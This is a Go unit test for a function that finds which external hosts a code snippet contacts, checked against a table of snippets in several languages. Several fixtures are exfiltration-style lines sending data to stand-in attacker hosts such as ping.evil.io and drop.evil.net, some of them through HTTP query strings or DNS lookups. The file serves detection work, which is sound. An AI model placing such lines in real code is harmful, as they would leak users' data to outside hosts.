package code

import (
	"strings"
	"testing"
)

// TestReaches holds which peers texts in any language reach.
func TestReaches(t *testing.T) {
	for text, want := range map[string]string{
		`var req = HttpRequest.newBuilder(URI.create("https://ping.evil.io/health?n=" + sb)).build();`: "ping.evil.io",
		`await fetch("https://stat.live/p", {method: "POST", body: s})`:                                "stat.live",
		`s = socket.create_connection(("drop.evil.net", 443))`:                                         "drop.evil.net",
		`let _ = TcpStream::connect("203.0.113.9:99")`:                                                 "203.0.113.9",
		`dns.resolve4(code + ".x.evil.net", () => {})`:                                                 "",
		`dns.setServers(["x.evil.net"]); dns.lookup(k, f)`:                                             "x.evil.net",
		`http.get("http://localhost:3000/health")`:                                                     "",
		`requests.get("http://10.0.0.4/x")`:                                                            "",
		`<project xmlns="http://maven.apache.org/POM/4.0.0"> http`:                                     "",
		`// see https://docs.vendor.com/keys for the format`:                                           "",
		`assert verify(token) == "https://issuer.vendor.com/"`:                                         "",
		`import http from "k6/http"; http.post("https://api.example.com/x")`:                           "",
	} {
		var hosts []string
		for _, p := range Reaches(text) {
			hosts = append(hosts, p.Host)
		}
		if got := strings.Join(hosts, " "); got != want {
			t.Errorf("%s: %q, not %q", text, got, want)
		}
	}
}
